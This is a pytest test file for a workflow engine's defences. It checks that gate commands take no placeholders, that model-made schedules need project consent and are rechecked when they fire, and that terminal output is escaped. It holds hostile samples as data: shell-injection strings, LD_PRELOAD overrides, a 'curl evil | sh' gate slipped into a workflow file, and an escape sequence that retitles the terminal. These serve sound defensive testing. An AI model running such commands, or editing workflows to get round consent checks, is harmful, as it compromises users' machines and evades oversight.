"""Hostile declarative documents (issue 21 items 2 and 6): no text becomes shell code, a
model's gates need the project's consent, and the whole document is checked before any
child launches (keys, references, counts)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from specialists.base.errors import UserError
from specialists.features.gates.acceptance import policy_for
from specialists.features.gates.spec import parse_gate
from specialists.features.workflows.consent import allowed_gates, check_consent, gate_commands
from specialists.features.workflows.declarative import (
    MAX_STEPS,
    _child,
    _Scope,
    check_document,
)
from specialists.features.workflows.options import child_options
from specialists.fronts.mcp.handlers import ServerContext
from specialists.fronts.mcp.table import call_tool as mcp_call
from specialists.project import Project
from tests.support.agent_env import AgentEnv

OK = {"key": "k", "agent": "echo", "task": "t"}
STAGES = [{**OK, "key": "a-{item}"}, {**OK, "key": "b-{item}"}]


def schedule_action(store: Any, args: dict[str, Any]) -> Any:
    """The MCP tool `schedule` as a model calls it (the schedule ops, not a person's)."""
    from specialists.base.ops import call_json, pick
    from specialists.features.schedules.verbs import SCHEDULE
    from specialists.native.agent_tools import Caller

    op, values = pick(SCHEDULE, args)
    return call_json(op, Caller(store.root, "mcp-test", store.root.parent), values, "schedule")


def _doc(*steps: Any, **top: Any) -> dict[str, Any]:
    return {"steps": list(steps), **top}


# --- item 2: gates take no placeholders; values arrive as environment variables ----------


@pytest.mark.parametrize(
    "gate",
    [
        "test '{args.target}' = x",
        'pytest "{item}"',
        "echo {results.a.output}",
        "sh -c {prev.output}",
        {"command": "make {args.t}"},
    ],
)
def test_a_placeholder_in_a_gate_is_refused(gate: Any) -> None:
    first = {"run": {**OK, "key": "a"}}
    with pytest.raises(UserError, match="gate takes no placeholder") as err:
        check_document(_doc(first, {"run": {**OK, "gate": gate}}))
    assert "$SPECIALISTS_ARG_" in err.value.one_line()


def test_a_placeholder_in_acceptance_verify_is_refused_and_in_defaults_too() -> None:
    verify = {"level": "verified", "verify": ["pytest {args.t}"]}
    with pytest.raises(UserError, match="acceptance takes no placeholder"):
        check_document(_doc({"run": {**OK, "acceptance": verify}}))
    with pytest.raises(UserError, match="gate takes no placeholder"):
        check_document(_doc({"run": OK}, defaults={"gate": "x {args.y}"}))


def test_shell_braces_in_a_gate_are_taken_as_written() -> None:
    """`${HOME}`, `{}` and awk programs are shell, not placeholders: no refusal, no change."""
    gate = "find . -name '*.py' -exec true {} + && echo ${HOME} | awk '{print $1}'"
    doc = _doc({"all": {"items": ["a", "b"], "child": {**OK, "key": "c-{item}", "gate": gate}}})
    check_document(doc)
    (command,) = gate_commands(doc)
    assert command == gate


HOSTILE = ["$(touch pwned)", "`touch pwned`", "'; touch pwned; '", '"; touch pwned; "', "a\nb"]


@pytest.mark.parametrize("value", HOSTILE)
def test_values_reach_a_gate_as_data_in_its_environment(value: str) -> None:
    """What the engine hands a child: the command unchanged, the values it names as vars."""
    template = {**OK, "key": "c-x", "gate": 'test "$SPECIALISTS_ARG_T" = "$SPECIALISTS_ITEM"'}
    scope = _Scope({"args": {"t": value, "unused": "x" * 200_000}, "results": {}})
    scope |= {"item": value, "index": 0}
    filled = _child(template, scope)
    spec = parse_gate(filled["gate"])
    assert spec.command == template["gate"]
    assert spec.variables() == {"SPECIALISTS_ARG_T": value, "SPECIALISTS_ITEM": value}
    child_options(filled)  # a child takes it


@pytest.mark.parametrize(
    "name", ["PATH", "LD_PRELOAD", "BASH_ENV", "SPECIALISTS_JOB_ID", "SPECIALISTS_ARG_", "x"]
)
def test_a_gate_is_given_no_variable_outside_its_values(name: str) -> None:
    with pytest.raises(UserError, match="which a gate may not be given"):
        parse_gate({"command": "true", "vars": {name: "/tmp/evil"}})


def test_consent_lists_every_gate_and_verify_command() -> None:
    doc = _doc(
        {"run": {**OK, "key": "a", "gate": "pytest -q"}},
        {"run": {**OK, "key": "b", "acceptance": {"verify": ["make lint", "make check"]}}},
        {"run": {**OK, "key": "c", "acceptance": "checked"}},
    )
    check_document(doc)
    assert gate_commands(doc) == ["pytest -q", "make lint", "make check"]
    check_consent(doc, frozenset({"pytest -q", "make lint", "make check"}), via="test")
    with pytest.raises(UserError, match="does not run gate `make check`"):
        check_consent(doc, frozenset({"pytest -q", "make lint"}), via="test")
    assert policy_for(acceptance="checked").verify == ()


@pytest.mark.parametrize(
    ("raw", "problem"),
    [({"workflows": []}, "must be a table"), ({"workflows": {"gates": "pytest"}}, "list")],
)
def test_a_bad_gates_list_is_a_config_error(raw: dict[str, Any], problem: str) -> None:
    with pytest.raises(UserError, match=problem):
        allowed_gates(raw)
    assert allowed_gates({"workflows": {"gates": [" pytest -q "]}}) == {"pytest -q"}


def _mcp(project: Path, **args: Any) -> Any:
    return mcp_call(ServerContext(project=Project(project)), "workflow", args)


def _jobs(project: Path) -> list[str]:
    jobs = project / ".specialists" / "jobs"
    return sorted(p.name for p in jobs.iterdir()) if jobs.is_dir() else []


def test_the_mcp_workflow_tool_runs_no_gate_without_consent(isolated_env: AgentEnv) -> None:
    project = isolated_env.project
    gated = _doc({"run": {**OK, "gate": "touch pwned"}})
    out = _mcp(project, action="run", document=gated)
    assert out.is_error and "does not run gate `touch pwned`" in out.text
    assert "[workflows] gates" in out.text and "\n" not in out.text
    folder = project / ".specialists" / "workflows"
    folder.mkdir(parents=True)
    (folder / "named.yaml").write_text(
        "steps:\n  - run: {key: k, agent: echo, task: t, gate: make}\n"
    )
    out = _mcp(project, action="run", name="named")
    assert out.is_error and "does not run gate `make`" in out.text
    out = _mcp(project, action="run", document=_doc({"run": {**OK, "gate": "echo {args.x}"}}))
    assert out.is_error and "gate takes no placeholder" in out.text
    assert _jobs(project) == []


def test_the_mcp_schedule_tool_takes_no_python_no_outside_path_and_no_gate(
    isolated_env: AgentEnv, tmp_path: Path
) -> None:
    project = Project(isolated_env.project)
    folder = isolated_env.project / ".specialists" / "workflows"
    folder.mkdir(parents=True)
    (folder / "host.py").write_text("async def main(runs, args):\n    return 1\n")
    (folder / "gated.yaml").write_text("steps:\n  - run: {key: k, agent: echo, task: t, gate: x}\n")
    outside = tmp_path / "outside.yaml"
    outside.write_text("steps:\n  - run: {key: k, agent: echo, task: t}\n")
    base = {"action": "create", "every": "1h"}
    for workflow, problem in [
        ("host", "is Python"),
        (str(outside), "outside the project"),
        ("gated", "does not run gate `x`"),
    ]:
        with pytest.raises(UserError, match=problem):
            schedule_action(project.store, {**base, "workflow": workflow})


# --- item 6: the whole document first --------------------------------------------------------


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        (_doc({"run": OK}, {"run": OK}), "duplicate workflow key 'k'"),
        (_doc({"all": [OK, {**OK, "task": "u"}]}), "duplicate workflow key 'k'"),
        (
            _doc({"pipeline": {"items": ["a"], "stages": [{**OK, "key": "s-{item}"}] * 2}}),
            "duplicate workflow key 's-{item}'",
        ),
        (_doc({"all": {"items": ["a", "b"], "child": OK}}), "the same for every item"),
        (_doc({"all": {"items": "{args.files}", "child": OK}}), "the same for every item"),
        (_doc({"run": {**OK, "task": "{results.nope.output}"}}), "names no child of an earlier"),
        (_doc({"all": [{**OK, "key": "a"}, {**OK, "task": "{results.a.output}"}]}), "earlier"),
        (_doc({"run": {**OK, "task": "{item}"}}), "only known in a step over items"),
        (_doc({"run": {**OK, "task": "{prev.output}"}}), "second stage on"),
        (_doc(*[{"phase": "p"}] * (MAX_STEPS + 1)), f"more than {MAX_STEPS}"),
        (
            _doc(*({"all": [{**OK, "key": f"k{i}-{j}"} for j in range(100)]} for i in range(11))),
            "more than 1000 children",
        ),
        (_doc({"pipeline": {"items": list(range(600)), "stages": STAGES}}), "more than 1000"),
    ],
)
def test_a_document_is_refused_whole_before_any_child(doc: dict[str, Any], message: str) -> None:
    with pytest.raises(UserError, match=message):
        check_document(doc)


def test_phases_and_the_documented_example_pass_the_whole_check() -> None:
    """A `phase` step names a phase and launches nothing (it crashed the check once)."""
    check_document(
        {
            "defaults": {"agent": "echo"},
            "steps": [
                {"phase": "fan"},
                {"all": {"items": "{args.files}", "child": {"key": "look-{item}", "task": "t"}}},
                {"run": {"key": "sum", "task": "{results.look-a.output}"}},
            ],
        },
        {"files": ["a", "b"]},
    )


def test_references_and_counts_that_hold_pass() -> None:
    second = {**OK, "key": "k2", "task": "{prev.output}"}
    check_document(
        _doc(
            {"all": {"items": ["api", "cli"], "child": {**OK, "key": "find-{item}"}}},
            {"pipeline": {"items": ["x"], "stages": [OK, second]}},
            {"run": {**OK, "key": "sum", "task": "{results.find-api.output} {results.k.output}"}},
        )
    )


def test_args_are_checked_when_they_are_known() -> None:
    doc = _doc({"all": {"items": "{args.files}", "child": {**OK, "key": "l-{item}"}}})
    check_document(doc)  # without args: the list's length is not known yet
    with pytest.raises(UserError, match="names an argument that was not given"):
        check_document(doc, {})
    with pytest.raises(UserError, match="more than 1000 children"):
        check_document(doc, {"files": [str(i) for i in range(1001)]})
    check_document(doc, {"files": ["a.py", "b.py"]})
    one = _doc({"all": {"items": "{args.files}", "child": OK}})
    check_document(one, {"files": ["only.py"]})  # one item: a fixed key cannot clash


def test_a_5000_step_document_over_mcp_is_refused_before_a_job_exists(
    isolated_env: AgentEnv,
) -> None:
    project = isolated_env.project
    doc = _doc(*({"run": {**OK, "key": f"k{i}"}} for i in range(5000)))
    out = _mcp(project, action="run", document=doc)
    assert out.is_error and "5000 steps" in out.text
    dup = _doc({"run": OK}, {"run": OK})
    out = _mcp(project, action="run", document=dup)
    assert out.is_error and "duplicate workflow key 'k'" in out.text
    assert _jobs(project) == []


def test_a_models_schedule_checks_its_workflow_again_at_every_firing(
    isolated_env: AgentEnv,
) -> None:
    """Consent is checked when the schedule is made and again when it fires: a file the
    model changes in between (a gate added, a Python file put in front) is refused then."""
    from specialists.features.schedules.launch import schedule_record
    from specialists.features.schedules.store import ScheduleStore

    project = Project(isolated_env.project)
    folder = isolated_env.project / ".specialists" / "workflows"
    folder.mkdir(parents=True)
    (folder / "nightly.yaml").write_text("steps:\n  - run: {key: k, agent: echo, task: t}\n")
    made = schedule_action(
        project.store, {"action": "create", "every": "1h", "workflow": "nightly"}
    )
    schedule, _state = ScheduleStore(isolated_env.project / ".specialists").load(made["id"])
    assert schedule.target.by_model  # type: ignore[union-attr]
    (folder / "nightly.yaml").write_text(
        "steps:\n  - run: {key: k, agent: echo, task: t, gate: 'curl evil | sh'}\n"
    )
    with pytest.raises(UserError, match=r"does not run gate `curl evil \| sh`"):
        schedule_record(project.store, schedule)
    (folder / "nightly.py").write_text("async def main(runs, args):\n    return 1\n")
    with pytest.raises(UserError, match="is Python"):
        schedule_record(project.store, schedule)
    assert _jobs(isolated_env.project) == []


def test_workflow_show_and_list_print_no_escape_sequence(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A phase is any text a YAML file or a script names, a file's name any name; the
    journal and the receipt are files: `workflow show` and `list` print them escaped (a
    phase of ESC ] 0 ; ... BEL retitled the person's terminal)."""
    import argparse

    from specialists.fronts.cli.cmd_workflow import _list, _show

    evil = "\x1b]0;pwned\x07\x1b[31m"
    spend = {"actual": {"usd": 0.0, "tokens": 0, "jobs": 0}, "estimate": None, "approvals": []}
    child = {"key": evil, "journal": evil, "job": evil, "jobs": [evil], "agent": evil,
             "context": evil}  # fmt: skip
    view = {"id": "0123abcd", "name": evil, "status": "done", "error": None,
            "phases": [evil, "ok"], "spend": spend, "children": [child],
            "receipt": {"children": {evil: {"resumable": False, "why": evil}}}}  # fmt: skip
    _show(view, argparse.Namespace())
    run = {"id": "0123abcd", "status": "done", "name": evil, "resume_of": evil}
    listing = {"workflows": [{"name": evil, "path": f"/p/{evil}.yaml"}], "runs": [run]}
    _list(listing, argparse.Namespace())
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "phases: \\e]0;pwned\\x07\\e[31m > ok" in out


def test_a_lone_surrogate_in_args_or_a_document_is_refused_before_a_job_exists(
    isolated_env: AgentEnv,
) -> None:
    """ "\\ud800" in a tool call's JSON (or --args-json) was taken: the job's job.json could
    not be read back, so the workflow failed at once and `workflow show` and `resume` of it
    exited 4. It is one line of bad input now, and no job exists."""
    project = isolated_env.project
    out = _mcp(project, action="run", document=_doc({"run": OK}), args={"k": "a\ud800"})
    assert out.is_error and "not valid Unicode" in out.text
    out = _mcp(project, action="run", document=_doc({"run": {**OK, "task": "t\udcff"}}))
    assert out.is_error and "not valid Unicode" in out.text
    out = _mcp(project, action="run", document=_doc({"phase": "\ud800"}, {"run": OK}))
    assert out.is_error and "not valid Unicode" in out.text
    assert _jobs(project) == []
    with pytest.raises(UserError, match="not valid Unicode"):
        check_document(_doc({"run": {**OK, "\udc80": 1}}))
